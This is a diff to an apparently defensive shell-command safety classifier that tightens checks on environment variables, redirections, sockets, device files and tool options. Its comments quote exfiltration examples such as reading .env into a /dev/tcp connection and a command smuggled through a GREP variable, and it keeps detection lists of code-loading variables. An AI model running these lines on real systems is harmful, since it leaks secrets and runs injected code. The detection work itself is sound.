@@ -3450,21 +3450,35 @@ class _Bash:
 
 # ---- classification ---------------------------------------------------------
 
-_DEV_SINKS = frozenset(("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/1",
-                        "/dev/fd/2"))
+_DEV_SINKS = frozenset(("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2"))
 _BIN_DIRS = frozenset(("/bin", "/usr/bin", "/usr/local/bin", "/sbin", "/usr/sbin",
                        "/opt/homebrew/bin", "/usr/local/sbin"))
-# Prefix assignments that only change presentation; any other one is unknown.
-_SAFE_ENV = frozenset(("LANG", "LANGUAGE", "TZ", "NO_COLOR", "TERM", "COLUMNS", "LINES",
-                       "CLICOLOR", "CLICOLOR_FORCE", "FORCE_COLOR", "GREP_COLOR", "GREP_COLORS",
-                       "RIPGREP_CONFIG_PATH", "TIME_STYLE", "POSIXLY_CORRECT"))
+# The variables a command may be given and stay proven: an allow-list, since
+# a list of the dangerous ones always misses the next (`GREP='sh -c …' zgrep`
+# runs the value).  Each changes only how a program presents what it shows,
+# or how it reads its options (which the analyzer already assumes); any
+# other name leaves the command unproven.  The value a name may take:
+# "any"; "word", static and without a `/` (a locale or terminal name with
+# one makes gettext, glibc or ncurses load data from any folder, the
+# project's included); "empty", static and empty.  README: "Variables
+# before a command".
+_SAFE_ENV: Dict[str, str] = {
+    "LANG": "word", "LANGUAGE": "word", "LC_*": "word",   # the language and character rules
+    "TZ": "any",                  # the time zone dates are shown in (zone data, no code)
+    "TERM": "word",               # the terminal's name: which escapes colour output
+    "COLUMNS": "any", "LINES": "any",   # the width and height output is laid out for
+    "NO_COLOR": "any", "CLICOLOR": "any", "CLICOLOR_FORCE": "any", "FORCE_COLOR": "any",
+    "GREP_COLOR": "any", "GREP_COLORS": "any",   # whether and how output is coloured
+    "TIME_STYLE": "any",          # how ls and du print times
+    "POSIXLY_CORRECT": "any",     # options end at the first operand, as the analyzer reads them
+    "RIPGREP_CONFIG_PATH": "empty",   # empty: rg reads no configuration file
+}
 _SAFE_PAGERS = frozenset(("cat", ""))
 
-# Variables that make a program run or load other code, read other
-# configuration, or write somewhere: a prefix assignment of one of these
-# (exact, or a prefix ending in *) leaves the command unproven.  The phrase
-# is what a denial says (%s: the program).  Families whose members nobody
-# has listed one by one are refused whole: when unsure, refuse.
+# Why a denial says a variable off _SAFE_ENV matters, for the names known to
+# make a program run or load other code, read other configuration or write
+# somewhere (exact, or a prefix ending in *; %s: the program).  Any other
+# name gets the plain sentence of _env_why.
 _ENV_WHY: Tuple[Tuple[str, str], ...] = (
     ("LD_*", "makes %s load other code"), ("DYLD_*", "makes %s load other code"),
     ("GCONV_PATH", "makes %s load other code"), ("GLIBC_TUNABLES", "changes how %s loads"),
@@ -3521,55 +3535,22 @@ _ENV_WHY: Tuple[Tuple[str, str], ...] = (
     ("NULLCMD", "names a program zsh runs"), ("READNULLCMD", "names a program zsh runs"),
     ("STTY", "makes zsh run stty"), ("SSLKEYLOGFILE", "makes %s write its TLS keys to a file"),
 )
-# Parts of a name that suggest a program reads it to find code, configuration
-# or an output file: unsure, so refused.
-_ENV_RISKY_PARTS = ("PATH", "HOME", "DIR", "CONF", "OPT", "FLAGS", "CMD", "COMMAND", "EXEC",
-                    "PROG", "HOOK", "PLUGIN", "PRELOAD", "LIB", "EDITOR", "PAGER", "SHELL",
-                    "ASKPASS", "PROXY", "TRACE", "LOG", "HIST", "FILE", "RC", "ENV", "RSH",
-                    "AUDIT", "INCLUDE", "MODULE", "LOAD", "SCRIPT", "STARTUP", "INIT",
-                    "PROFILE", "PREFIX", "ROOT", "INDEX", "TEMPLATE", "WRAP", "TMP", "TEMP",
-                    "SOCK", "OUT", "DUMP", "CACHE", "BROWSER", "HOST", "URL", "SERVER",
-                    "ENDPOINT", "REGISTRY", "MIRROR", "ENGINE", "ADDR", "BUS")
-
-
-# _ENV_WHY as exact names and name prefixes, and _ENV_RISKY_PARTS by their
-# first two letters; made on first use.  A line may set thousands of
-# variables (`a=1 a=1 ... ls`): a walk of both tables for each name cost 25
-# microseconds, now a look-up per letter of the name.
-_ENV_RISKY_NAMES: List[Any] = []
-
-
-def _env_risky(upper: str) -> bool:
-    if not _ENV_RISKY_NAMES:
-        parts: Dict[str, Tuple[str, ...]] = {}
-        for part in _ENV_RISKY_PARTS:   # (each has two letters or more)
-            parts[part[:2]] = parts.get(part[:2], ()) + (part,)
-        _ENV_RISKY_NAMES[:] = (frozenset(p for p, _ in _ENV_WHY if not p.endswith("*")),
-                               tuple(p[:-1] for p, _ in _ENV_WHY if p.endswith("*")) + ("_",),
-                               parts)
-    exact, prefixes, parts = _ENV_RISKY_NAMES
-    if upper in exact or upper.startswith(prefixes):
-        return True
-    for i in range(len(upper) - 1):
-        for part in parts.get(upper[i:i + 2], ()):
-            if upper.startswith(part, i):
-                return True
-    return False
-
-
 def _env_ok(name: str, value: _W) -> bool:
-    """Whether `NAME=value cmd` judges like `cmd`: the variable only changes
-    presentation, or no program is known to read it (FOO=1, CI=true).  Names
-    that run code, point at configuration or look like they might are refused."""
-    if name.startswith("LC_") or name in _SAFE_ENV:
-        return name != "RIPGREP_CONFIG_PATH" or value.text == ""
+    """Whether `NAME=value cmd` judges like `cmd`: the name is on _SAFE_ENV
+    with a value it allows, or pins what the program picks (GOTOOLCHAIN=local),
+    or turns the pager off (PAGER=cat)."""
+    kind = _SAFE_ENV.get("LC_*" if name.startswith("LC_") else name)
+    if kind == "any":
+        return True
+    if kind == "word":
+        return value.static and "/" not in value.text
+    if kind == "empty":
+        return value.static and value.text == ""
     if name in ("PAGER", "GIT_PAGER", "MANPAGER"):
         return value.static and value.text in _SAFE_PAGERS
     if name in _PICKS_PINNED_BY:
         return value.static and value.text == _PICKS_PINNED_BY[name][1]
-    if name != name.upper() and not _plain_var(name):
-        return False
-    return not _env_risky(name.upper())
+    return False
 
 
 def _program_name(word: _W) -> Optional[str]:
@@ -3633,12 +3614,14 @@ _STD_SINKS = frozenset(("/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2"))
 
 
 def _classify_cmd(cmd: _Cmd, ctx: _Ctx) -> _V:
-    v = _V()
+    v = _redirs_verdict(cmd)
     if not ctx.std_moved and ("<" in cmd.src or ">&" in cmd.src) \
             and _an_rx("std_moves", _STD_MOVES).search(cmd.src):
         ctx.std_moved = True    # the whole line, `exec 1<f` and `{ ...; } 1<f` included
-    for op, target in cmd.redirs:
-        v.join(_redir_verdict(op, target))
+    for w in cmd.words[1:]:
+        if _consumed(w):
+            v.join(_unknown("state_change", "leaves", w.text, _CONSUMED_WHY))
+            break
     env_capped: Optional[str] = None
     for name, value in cmd.assigns:
         if env_capped is None and not _env_ok(name, value):
@@ -4163,18 +4146,117 @@ def _manifest_by_name(cmd: _Cmd, program_writes: bool) -> bool:
     return False
 
 
-def _redir_verdict(op: str, target: Optional[_W]) -> _V:
+# bash opens these as sockets for any redirection, `<` included, and a
+# descriptor open both ways carries what a command writes to the host
+# (`cat .env 1</dev/tcp/h/443`).  zsh and dash open no such name.
+_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")
+# Descriptors other programs may have opened (the host's, or an earlier
+# redirection's) reached through a path, as `<&3` reaches them by number.
+_FD_PATHS = ("/dev/fd/",)
+
+
+def _may_start(text: str, prefixes: Tuple[str, ...]) -> bool:
+    """Whether a word (NUL: an expansion) may begin with one of the prefixes."""
+    for prefix in prefixes:
+        for a, b in zip(text, prefix):
+            if a == "\0":
+                return True
+            if a != b:
+                break
+        else:
+            if len(text) >= len(prefix):
+                return True
+    return False
+
+
+# Files whose reading is no read.  Reading /proc/kmsg or a tracing
+# trace_pipe takes the messages from every other reader (as `dmesg -c`
+# does); opening /dev/watchdog starts the watchdog, which reboots the machine
+# when nobody writes to it; a terminal gives away keystrokes to a reader and
+# takes output past what the host captures (an escape there may set the
+# clipboard), and opening a serial line resets the board on it.  By the
+# last part of the name, for relative names too (`cd /proc; cat kmsg`), and
+# terminals by their path.
+_CONSUMED_NAMES = ("kmsg", "trace_pipe", "trace_pipe_raw", "watchdog")
+_TERMINALS = ("/dev/tty", "/dev/pts/", "/dev/console", "/dev/vc/", "/dev/serial/")
+# What a pattern is tried against (a pattern in an absolute folder).
+_CONSUMED_SAMPLES = ("/proc/kmsg", "/sys/kernel/tracing/trace_pipe",
+                     "/sys/kernel/debug/tracing/trace_pipe", "/dev/watchdog", "/dev/watchdog0",
+                     "/dev/tty", "/dev/tty1", "/dev/ttyS0", "/dev/ttyUSB0", "/dev/ttyACM0",
+                     "/dev/pts/0", "/dev/console")
+
+
+_CONSUMED_WHY = ("takes what other readers need, acts when opened, or reaches the terminal "
+                 "past the output the host captures")
+
+
+def _consumed_name(base: str) -> bool:
+    return base in _CONSUMED_NAMES or base.startswith("watchdog") and base[8:].isdigit()
+
+
+def _consumed(w: _W) -> bool:
+    """Whether a word may name one of those files (also after `if=` or
+    `--file=`).  A name made when the line runs (`$(…)`, a variable of the
+    environment) is only checked for what is written of it."""
+    text = w.text
+    if not w.glob and not ("kmsg" in text or "trace_pipe" in text or "watchdog" in text
+                           or "dev" in text):
+        return False   # (most words: no call made)
+    if not w.static and not w.glob:
+        return any(part in text for part in _CONSUMED_NAMES + ("/dev/tty", "/dev/pts",
+                                                               "/dev/console"))
+    for name in {text, text.rpartition("=")[2]}:
+        if w.glob:
+            if name.startswith("/"):
+                import fnmatch
+                if any(fnmatch.fnmatchcase(sample, name) for sample in _CONSUMED_SAMPLES):
+                    return True
+            continue
+        if "/" not in name:
+            # (`watchdog` alone is a common word: only its paths count.)
+            if name in _CONSUMED_NAMES and name != "watchdog":
+                return True
+            continue
+        base = name.rpartition("/")[2]
+        if _consumed_name(base):
+            return True
+        if "dev" in name or base in ("", ".", ".."):
+            # `/dev//tty`, `/proc/kmsg/.`, `../../dev/tty`: normalised
+            path = "/" + os.path.normpath(name)
+            if _consumed_name(path.rpartition("/")[2]) or any(t in path for t in _TERMINALS):
+                return True
+    return False
+
+
+def _redir_verdict(op: str, target: Optional[_W], known: Optional[set] = None) -> _V:
+    """One redirection.  `known`: the descriptors proven to be the host's
+    standard three or copies of them (0 reads, 1 and 2 the captured output);
+    a duplication of any other may reach a socket or a file."""
     kind = op.lstrip("0123456789")
-    if kind == "<" and target is not None and not target.static \
-            and ("/dev/tcp/" in target.text or "/dev/udp/" in target.text):
-        # bash connects to the host it names: one built from an expansion
-        # carries data out (`< /dev/tcp/$(cat .env).example.com/80`).
+    known = {"0", "1", "2"} if known is None else known
+    if target is not None and kind not in ("<<<", "<&", ">&") and _consumed(target) \
+            and not (kind == ">&" and target.text.isdigit()):
+        return _unknown("state_change", "leaves", target.text, _CONSUMED_WHY)
+    if target is not None and kind != "<<<" and target.text.startswith(_SOCKET_PATHS) \
+            or kind == "<" and target is not None and _may_start(target.text, _SOCKET_PATHS):
+        # (Output to an expansion is a write to a target not known already.)
         return _unknown("network_data_unproven")
-    if target is None or kind in ("<", "<<<"):
+    if target is None or kind == "<<<":
+        return _an_read()
+    if kind == "<":
+        text = target.text
+        if target.static and (text.startswith(_FD_PATHS) or text.startswith("/proc/")
+                              and "/fd/" in text) and text.rpartition("/")[2] != "0" \
+                or not target.static and _may_start(text, _FD_PATHS + ("/proc/",)):
+            return _unknown("shell_syntax_unproven")
         return _an_read()
     if kind in ("<&", ">&"):
-        if target.static and (target.text == "-" or target.text.isdigit()):
+        if target.static and target.text == "-":
             return _an_read()
+        if target.static and target.text.isdigit():
+            if target.text in known and (kind == "<&" or target.text != "0"):
+                return _an_read()
+            return _unknown("shell_syntax_unproven")
         if kind == "<&":
             raise _Give("shell_syntax_unproven")
     if target.static and target.text in _DEV_SINKS:
@@ -4183,6 +4265,31 @@ def _redir_verdict(op: str, target: Optional[_W]) -> _V:
     v.whole = target.static   # the shell writes through a link: a plain word only
     if not kind.endswith(">>"):
         _lose(v)   # `>` empties the file first; `>>` only adds to it
+    return v
+
+
+def _redirs_verdict(cmd: "_Cmd") -> _V:
+    """A command's redirections in order, following which descriptors stay
+    the standard three: `3>&1` makes 3 one, `3>f` or `1<>f` takes one away."""
+    v = _V()
+    known = {"0", "1", "2"}
+    for op, target in cmd.redirs:
+        v.join(_redir_verdict(op, target, known))
+        kind = op.lstrip("0123456789")
+        if kind in ("<<", "<<-", "<<<"):
+            continue
+        fds = (op[:len(op) - len(kind)] or ("0" if kind.startswith("<") else "1"),)
+        if kind in ("&>", "&>>") or kind == ">&" and not (target and target.text.isdigit()):
+            fds = ("1", "2")
+        static = target is not None and target.static
+        # Still one of the three: a copy of one, or output thrown away.
+        stays = static and (kind in ("<&", ">&") and target.text in known
+                            or ">" in kind and "<" not in kind and target.text in _DEV_SINKS)
+        for fd in fds:
+            if stays:
+                known.add(fd)
+            else:
+                known.discard(fd)
     return v
 
 
@@ -4213,7 +4320,8 @@ _VERSION_WORDS: Dict[str, Tuple[str, ...]] = {
 # first operand (`rm x --help` removes x), and an option may take the next
 # word as its value (`cp -t --help x`).  Left out: tools whose help loads the
 # project's own code or config (pytest loads conftest.py, mvn and gradle read
-# JVM options from the project, cargo, rustc and rustup run the toolchain a
+# JVM options from the project, pdm loads its plugins, cargo, rustc and
+# rustup run the toolchain a
 # rust-toolchain.toml may point into the project; see _PROJECT_PICKS) and
 # those whose help runs a pager (aws).  `unlink` is left out: the BSD one
 # (macOS) parses no option and removes the file its one argument names,
@@ -4312,7 +4420,20 @@ _PROJECT_PICKS: Dict[str, str] = {
     # (from .bazeliskrc's BAZELISK_BASE_URL, if set).
     "sbt": "starts Java with the project's .jvmopts and fetches the sbt it names",
     "bazel": "fetches and runs the bazel that the project's .bazelversion names",
+    # gradle.properties' org.gradle.java.home names the Java gradle starts,
+    # and org.gradle.jvmargs its options (-javaagent: runs code), even for -v.
+    "gradle": "starts the Java, with the options, that the project's gradle.properties names",
+    # PDM loads the plugins installed in the project's .pdm-plugins at start.
+    "pdm": "loads the plugins installed in the project's .pdm-plugins first",
+    # npm loads the .npmrc of the project (the folder of the nearest
+    # package.json) for every verb: its registry gets the token it names,
+    # `${ANY_VARIABLE}` expanded, and npm writes a log where `logs-dir` says
+    # (both seen, `npm ls` included).  Only a lone -v or --version skips it.
+    "npm": "obeys the project's .npmrc, which may send a variable to another registry and "
+           "choose where npm writes its log",
 }
+# The forms of such a program that print before reading any project file.
+_PROJECT_SPARES: Dict[str, Tuple[str, ...]] = {"npm": ("-v", "--version")}
 
 
 # The variable that keeps such a program on the build it is: name -> (program,
@@ -4696,7 +4817,8 @@ def _classify_argv(words: List[_W], ctx: _Ctx) -> _V:
             and _verb_unread(name or "", words[1:]):
         v.agent = "?"
     if v.mut != "write" and words and (v.mut == "read" or v.reason == "repository_code"):
-        if name in _PROJECT_PICKS:
+        if name in _PROJECT_PICKS and not (
+                len(words) == 2 and words[1].text in _PROJECT_SPARES.get(name, ())):
             v.cap("repository_code")
             v.why = v.why or ("project", name)     # the culprit says which file picks it
     if v.mut != "read" and v.agent is None:
@@ -4889,15 +5011,17 @@ class _Opts:
     """
 
     __slots__ = ("text", "write", "runs", "state", "permute", "abbrev", "open", "needs",
-                 "verbs", "max_operands", "write_operand", "check", "_short", "_long",
+                 "verbs", "max_operands", "write_operand", "check", "parser", "_short", "_long",
                  "_effects")
 
     def __init__(self, text: str = "", write: str = "", runs: str = "", state: str = "",
                  permute: bool = True, abbrev: bool = True, open: bool = False,
                  needs: str = "", verbs: Optional[frozenset] = None,
                  max_operands: Optional[int] = None, write_operand: Optional[int] = None,
-                 check: Optional[Callable[[List[_W]], Optional[_V]]] = None) -> None:
+                 check: Optional[Callable[[List[_W]], Optional[_V]]] = None,
+                 parser: str = "getopt") -> None:
         self.text = text
+        self.parser = parser
         self.write, self.runs, self.state = write, runs, state
         self.permute, self.abbrev, self.open = permute, abbrev, open
         self.needs, self.verbs, self.check = needs, verbs, check
@@ -4941,7 +5065,13 @@ class _Opts:
 
     def __call__(self, name: str, args: List[_W], ctx: _Ctx) -> _V:
         fail, operands, seen = _read_options(args, self, split_ok=True)
-        return _unsplit(self._judge(args, fail, operands, seen), _split_value(seen))
+        v = _unsplit(self._judge(args, fail, operands, seen), _split_value(seen))
+        if self.parser != "getopt":
+            # Other builds of the program (busybox's xxd, tree and fuser) use
+            # getopt: both readings count.
+            fail, operands, seen = _read_options(args, self, split_ok=True, parser="getopt")
+            v.join(_unsplit(self._judge(args, fail, operands, seen), _split_value(seen)))
+        return v
 
     def _judge(self, args: List[_W], fail: Optional[_V], operands: List[_W],
                seen: List[Tuple[str, Optional[_W], str]]) -> _V:
@@ -4987,8 +5117,36 @@ def _resolve_long(long: Dict[str, Tuple[int, str]], key: str, abbrev: bool) -> O
     return hits[0] if len(hits) == 1 else None
 
 
+def _one_option_word(t: str, args: List[_W], i: int, short: Dict[str, Tuple[int, str]],
+                     seen: List[Tuple[str, Optional[_W], str]]) -> Tuple[Optional[_V], int]:
+    """One word of a parser="word" program (xxd): the option is the letter
+    after one or two dashes, the rest of a flag's word is ignored (`-ps` is
+    -p, `-rps` is -r, `--revert` is -r), and a value is the rest of the word
+    or, when there is none, the next word.  A rest of letters may be the
+    option's long name, after which the value is the next word: refused.
+    Returns (failure or None, how many next words it took)."""
+    body = t[2:] if t.startswith("--") else t[1:]
+    entry = short.get(body[:1])
+    if entry is None:
+        return _unknown("shell_command_unproven", "option", t), 0
+    arity, opt = entry
+    rest = body[1:]
+    if not arity:
+        seen.append((opt, None, t))
+    elif rest and not rest[:1].isalpha():
+        seen.append((opt, _lit(rest), t))
+    elif rest:
+        return _unknown("shell_command_unproven", "option", t), 0
+    elif i < len(args):
+        seen.append((opt, args[i], t))
+        return None, 1
+    else:
+        return _unknown("option_value_missing", "option", t), 0
+    return None, 0
+
+
 def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
-                  split_ok: bool = False
+                  split_ok: bool = False, parser: Optional[str] = None
                   ) -> Tuple[Optional[_V], List[_W], List[Tuple[str, Optional[_W], str]]]:
     """The one option scanner.
 
@@ -5002,6 +5160,7 @@ def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
     """
     short, long = spec.table()
     permute = spec.permute if permute is None else permute
+    parser = spec.parser if parser is None else parser
     operands: List[_W] = []
     seen: List[Tuple[str, Optional[_W], str]] = []
     effects: Optional[_V] = None
@@ -5028,7 +5187,10 @@ def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
             dd = not permute
             continue
         start = len(seen)
-        if t.startswith("--"):
+        if parser == "word":
+            fail, took = _one_option_word(t, args, i, short, seen)
+            i += took
+        elif t.startswith("--"):
             key, eq, val = t[2:].partition("=")
             canon = _resolve_long(long, key, spec.abbrev)
             if canon is None:
@@ -5060,6 +5222,16 @@ def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
                     j += 1
                     continue
                 arity, opt = entry
+                if arity and parser == "next":
+                    # Each letter that takes a value takes the next word, and the
+                    # cluster goes on (`tree -Lo 1 f`: -L 1, -o f).
+                    if i >= n:
+                        fail = _unknown("option_value_missing", "option", t)
+                        break
+                    seen.append((opt, args[i], t))
+                    i += 1
+                    j += 1
+                    continue
                 if arity:
                     rest = t[j + 1:]
                     if rest:
@@ -6568,6 +6740,12 @@ def _git_action(sub: str, args: List[_W]) -> _V:
         if w.opaque or (w.text.startswith("-") and w.text not in ("-v", "--verbose",
                                                                    "--recursive", "-n")):
             return _unknown("git_arguments_unproven")
+    if sub == "remote" and action == "show" and not any(w.text == "-n" for w in args[1:]) \
+            and any(not w.text.startswith("-") for w in args[1:]):
+        # It connects: the repository's configuration picks the address (a
+        # URL written out too, through insteadOf), the credential helper and
+        # the ssh command it connects with.  `-n` asks nobody.
+        return _unknown("repository_code")
     return _an_read()
 
 
@@ -7440,6 +7618,16 @@ def _awk(name: str, args: List[_W], ctx: _Ctx) -> _V:
 
 
 def _awk_verdict(args: List[_W]) -> Tuple[_V, Optional[_W]]:
+    for w in args:
+        # gawk opens a file named /inet/tcp/…, /inet4/…, /inet6/… (udp too) as
+        # a connection, DNS look-up first; and a program can build that name
+        # from the data it reads and hand it to awk as the next input through
+        # ARGV and ARGC (or gawk's SYMTAB, which reaches any variable by name).
+        if "/inet" in w.text:
+            return _unknown("network_data_unproven"), None
+        if "ARGV" in w.text or "ARGC" in w.text or "SYMTAB" in w.text:
+            return _unknown("interpreter_code", "awk", w.text,
+                            "may name its next input from inside the program"), None
     i, n = 0, len(args)
     program: Optional[_W] = None
     split: Optional[_W] = None      # a -v or -F value that may split (_may_split)
@@ -9002,8 +9190,16 @@ def _composer(name: str, args: List[_W], ctx: _Ctx) -> _V:
                 "prohibits", "why-not", "search", "diagnose", "check-platform-reqs", "fund",
                 "status", "audit", "suggests", "help", "list"):
         # Composer starts the plugins installed in vendor/ for every command.
-        return _an_read() if "--no-plugins" in [w.text for w in args] else \
-            _unknown("repository_code")
+        if "--no-plugins" not in [w.text for w in args]:
+            return _unknown("repository_code")
+        # Those that ask the repositories obey composer.json's `config` too
+        # (its cache-dir is where the answers are written) and its repositories.
+        if verb in ("outdated", "search", "diagnose", "audit") or verb in ("show", "info") and any(
+                w.text in ("--all", "--available", "--latest", "--outdated") or (
+                    w.text.startswith("-") and not w.text.startswith("--")
+                    and any(ch in w.text for ch in "alo")) for w in args):
+            return _unknown("repository_code")
+        return _an_read()
     if verb in ("install", "i", "update", "u", "upgrade", "remove", "rm", "dump-autoload",
                 "init", "create-project", "config", "bump", "reinstall", "clear-cache"):
         return _write()
@@ -9862,22 +10058,29 @@ _UNIQ = _Opts(
     "-cdDiuz -fsw: --count --repeated --all-repeated? --skip-fields: --group? --ignore-case "
     "--skip-chars: --unique --zero-terminated --check-chars: --help --version",
     write_operand=1)
+# tree's own parser: a letter that takes a value takes the next word, never
+# the rest of its word, and the cluster goes on (`tree -Lo 1 f` writes f).
 #: read | tree -a -I '.git|node_modules' -L 3
 #: write >out.txt | tree -o out.txt
+#: write >out.txt | tree -Lo 1 out.txt
 _TREE = _Opts(
     "-adlfxpsughDFqNQrtvUCASniJX -LPIoH: --noreport --charset: --dirsfirst --filesfirst "
     "--gitignore --prune --matchdirs --sort: --du --si --filelimit: --timefmt: --version "
     "--help --fromfile --info --hyperlink --metafirst",
-    write="-o")
-# xxd writes its second operand; its options end at the first operand.
+    write="-o", parser="next")
+# xxd writes its second operand; its options end at the first operand.  Its
+# own parser reads one option a word, by the letter after the dashes (see
+# _one_option_word): `-ps` is -p, so `xxd -ps in out` writes out.
 #: read | xxd -g1 -l 64 a.bin
+#: read | xxd -ps a.bin
 #: write >out.hex | xxd a.bin out.hex
+#: write >out | xxd -ps in out
 #: write | xxd a.txt -u
 _XXD = _Opts(
     "-aCEeipruhdvb -cglsonR: --autoskip --bits --cols: --capitalize --EBCDIC --groupsize: "
     "--include --len: --name: --postscript --plain --ps --revert --seek: --uppercase "
     "--version --help",
-    permute=False, write_operand=1)
+    permute=False, write_operand=1, parser="word")
 # -C compiles a magic file; -p restores access times after reading: a
 # metadata write.
 #: read | file -b --mime-type a.bin
@@ -9993,13 +10196,15 @@ _SYSCTL = _Opts(
     "-aAXbeNnqoxdhVwpf -r: --all --deprecated --binary --ignore --names --values --pattern: "
     "--quiet --help --version --write --load? --system",
     state="-w --write -p -f --load --system", check=_no_assignment)
+# psmisc's own parser: -n takes the next word and the cluster goes on.
 #: read | fuser -v -n tcp 8080
 #: unknown =state_change | fuser -km /mnt
+#: unknown =state_change | fuser -nk tcp 8080
 _FUSER = _Opts(
     "-aiIlmMsuvwVk46 -n: --all --interactive --inode --kill --list-signals --mount "
     "--ismountpoint --namespace: --silent --user --verbose --writeonly --version --ipv4 "
     "--ipv6",
-    state="-k --kill")
+    state="-k --kill", parser="next")
 #: read | iconv -f latin1 -t utf-8 a.txt
 #: write >out.txt | iconv --output=out.txt a.txt
 _ICONV = _Opts(
@@ -10353,38 +10558,77 @@ def _gh(name: str, args: List[_W], ctx: _Ctx) -> _V:
     return _unknown()
 
 
-# `gh api` options that send a body, and so switch the method to POST.
-_GH_BODY_OPTIONS = ("--field", "--raw-field", "--input")
+# `gh api`'s options (pflag: `-Fk=v`, `-F=k=v`, `--field=k=v`, value-taking
+# letters last in a cluster), by long name -> its letter and whether it takes
+# a value.  A field is sent as a query string under GET, a body otherwise.
+_GH_API_OPTIONS: Dict[str, Tuple[str, bool]] = {
+    "--method": ("X", True), "--field": ("F", True), "--raw-field": ("f", True),
+    "--header": ("H", True), "--jq": ("q", True), "--template": ("t", True),
+    "--preview": ("p", True), "--input": ("", True), "--hostname": ("", True),
+    "--cache": ("", True), "--include": ("i", False), "--paginate": ("", False),
+    "--slurp": ("", False), "--silent": ("", False), "--verbose": ("", False),
+}
 
 
 def _gh_api(rest: List[str]) -> _V:
-    """`gh api` reads only with the GET method in every spelling of the option:
-    `-X M`, `-XM`, `-X=M`, `--method M`, `--method=M`, or X inside a cluster."""
-    method = "GET"
+    """`gh api` reads only with the GET method in every spelling of the
+    option, and, as any network request, only when all it sends is written
+    out: a field value `@FILE` (or `@-`, standard input) sends the file even
+    as a query string, `--input` sends a body whatever the method, a header
+    `@…` is refused too, and an endpoint holding `://` goes to any host.
+    `--cache` writes gh's cache."""
+    short = {letter: (name, valued) for name, (letter, valued) in _GH_API_OPTIONS.items()
+             if letter}
+    given: List[Tuple[str, str]] = []
+    operands: List[str] = []
     k = 0
     while k < len(rest):
         t = rest[k]
         k += 1
-        value = None
-        if t in ("-X", "--method"):
-            if k >= len(rest):
-                return _unknown("option_value_missing")
-            value = rest[k]
-            k += 1
-        elif t.startswith("--method="):
-            value = t[len("--method="):]
-        elif t.startswith(_GH_BODY_OPTIONS):
-            value = "POST" if method == "GET" else method
-        elif t.startswith("-") and not t.startswith("--") and len(t) > 1:
-            cluster = t[1:]
-            if cluster.startswith("X"):
-                value = cluster[1:].lstrip("=")
-            elif "X" in cluster:
+        if t == "--":
+            operands.extend(rest[k:])
+            break
+        if t.startswith("--"):
+            name, eq, value = t.partition("=")
+            if name not in _GH_API_OPTIONS:
                 return _unknown("shell_command_unproven")
-            elif "f" in cluster or "F" in cluster:
-                value = "POST" if method == "GET" else method
-        if value is not None:
-            method = value.upper()
+            if _GH_API_OPTIONS[name][1] and not eq:
+                if k >= len(rest):
+                    return _unknown("option_value_missing")
+                value = rest[k]
+                k += 1
+            given.append((name, value))
+        elif t.startswith("-") and len(t) > 1:
+            for at, letter in enumerate(t[1:], 1):
+                if letter not in short:
+                    return _unknown("shell_command_unproven")
+                name, valued = short[letter]
+                if not valued:
+                    given.append((name, ""))
+                    continue
+                value = t[at + 1:]
+                value = value[1:] if value.startswith("=") else value
+                if not value:
+                    if k >= len(rest):
+                        return _unknown("option_value_missing")
+                    value = rest[k]
+                    k += 1
+                given.append((name, value))
+                break
+        else:
+            operands.append(t)
+    methods = [value.upper() for name, value in given if name == "--method"]
+    fields = any(name in ("--field", "--raw-field") for name, _ in given)
+    method = methods[-1] if methods else "POST" if fields else "GET"
+    for name, value in given:
+        sent = value.partition(":" if name == "--header" else "=")[2].lstrip()
+        if name == "--input" or name in ("--field", "--raw-field", "--header") \
+                and (sent.startswith("@") or value.startswith("@")):
+            return _unknown("network_data_unproven")
+        if name == "--cache":
+            return _unknown("shell_command_unproven")
+    if any("://" in t for t in operands):
+        return _unknown("network_data_unproven")
     return _an_read() if method == "GET" else _write()
 
 
@@ -11114,6 +11358,14 @@ class _Flow:
             self.last = (ok, failed)
             if self.items[self.k] == "&":
                 self.k += 1
+                # A job left in the background may outlive the line and the
+                # shell (`tail -f log >/dev/null 2>&1 &`): never a read.
+                v = _unknown("state_change", "leaves", "&",
+                             "leaves a job running in the background, which may outlive the "
+                             "shell")
+                if self.ctx.seen is not None:
+                    self.ctx.seen.append((None, v))
+                self.total.join(v)
                 # bash runs the whole `a && b &` in the background; zsh only b,
                 # after running a here.
                 here = _merge(entry, self.lead)
@@ -13080,6 +13332,8 @@ def _why_text(where: Any, v: _V, command: str, prefer: Sequence[str] = ()) -> Tu
             _quote(why[1], command) or "it"), ""
     if kind in ("zsh", "sh"):
         return "%s %s" % (_quote(why[1], command) or "the line", _ZSH_WHY[why[2]]), ""
+    if kind == "leaves":
+        return "%s %s" % (_quote(why[1], command) or "the line", why[2]), ""
     if kind == "python":
         return _python_why(why, prog, command)
     if kind == "project":
@@ -13156,10 +13410,13 @@ def _python_why(why: tuple, prog: str, command: str) -> Tuple[str, str]:
 def _env_why(name: str, runs: str) -> str:
     """Why a variable on a command makes it unproven (see _env_ok)."""
     program = runs or "the program"
+    if _SAFE_ENV.get("LC_*" if name.startswith("LC_") else name):
+        return "holds a value that may point %s at data in another folder" % program
     for prefix, phrase in _ENV_WHY:
         if name == prefix or (prefix.endswith("*") and name.startswith(prefix[:-1])):
             return phrase % program if "%s" in phrase else phrase
-    return "can change what %s runs or reads" % program
+    return "is not on the list of variables known to change only how %s presents its " \
+        "output" % program
 
 
 def _hash_part(where: Any, v: _V, command: str, intent: str) -> str:
